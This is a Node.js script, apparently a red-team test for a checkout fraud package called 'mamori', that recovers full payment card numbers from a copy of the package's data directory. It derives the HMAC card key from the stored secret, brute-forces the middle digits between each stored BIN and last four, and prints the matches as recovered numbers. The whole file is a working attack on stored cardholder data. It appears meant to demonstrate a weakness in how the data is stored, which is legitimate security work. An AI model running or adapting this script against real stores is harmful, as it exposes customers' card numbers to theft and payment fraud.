// Full card numbers from a copy of data_dir alone: events hold BIN (8 digits for 16-digit numbers) and the
// last four; the per-card counters are keyed by HMAC(key derived from data_dir/secret, number). For each
// event, try the 10^4 middle digits (~1,000 pass Luhn) and read `cf:card:<id>` from the store: a non-zero
// counter names the number. Usage: node pan-recover.mjs CONFIG [MAX_EVENTS]   (works on a copy of data_dir)
import { cpSync, mkdtempSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { createHmac } from 'node:crypto';
const dist = new URL('../../packages/mamori/dist/', import.meta.url);
const { loadConfig } = await import(new URL('config/config.js', dist));
const { resolveSecret, openConfiguredStore } = await import(new URL('runtime.js', dist));
const cfgPath = resolve(process.argv[2]);
const max = Number(process.argv[3] ?? 20);
const config = loadConfig(cfgPath);
const copy = mkdtempSync('/tmp/rt-pan-');
cpSync(config.dataDir, copy, { recursive: true });
const cfg = { ...config, dataDir: copy, store: { ...config.store, path: config.store.path?.replace(config.dataDir, copy) } };
const secret = resolveSecret(cfg);
const hmac = (key, ...parts) => { const h = createHmac('sha256', key); for (const p of parts) { h.update(p); h.update('\0'); } return h.digest(); };
const cardKey = hmac(secret, 'mamori checkout card key v1');
const cardId = (digits) => createHmac('sha256', cardKey).update('mamori card\0').update(digits).digest().subarray(0, 16).toString('base64url');
const luhnOk = (d) => { let s = 0; for (let i = 0; i < d.length; i++) { let x = +d[d.length - 1 - i]; if (i % 2) { x *= 2; if (x > 9) x -= 9; } s += x; } return s % 10 === 0; };
const store = await openConfiguredStore(cfg, secret);
const events = (await store.events.query({ limit: 2000 })).filter((e) => e['mamori.card.bin'] && e['mamori.card.last4']);
const seen = new Set();
let found = 0, tried = 0;
for (const e of events) {
  const bin = e['mamori.card.bin'], last4 = e['mamori.card.last4'];
  if (bin.length !== 8 || seen.has(bin + last4)) continue;
  seen.add(bin + last4);
  if (tried++ >= max) break;
  const cands = [];
  for (let m = 0; m < 10000; m++) { const d = `${bin}${String(m).padStart(4, '0')}${last4}`; if (luhnOk(d)) cands.push(d); }
  const vals = await store.read(cands.map((d) => `cf:card:${cardId(d)}`));
  const hit = cands.filter((_, i) => vals[i] > 0);
  if (hit.length) found++;
  console.log(`event bin ${bin} last4 ${last4}: ${cands.length} candidates -> ${hit.length ? `RECOVERED ${hit.join(',')}` : 'not found'}`);
}
console.log(`${found}/${tried} card numbers recovered from ${config.dataDir} (copy in ${copy})`);
process.exit(0);
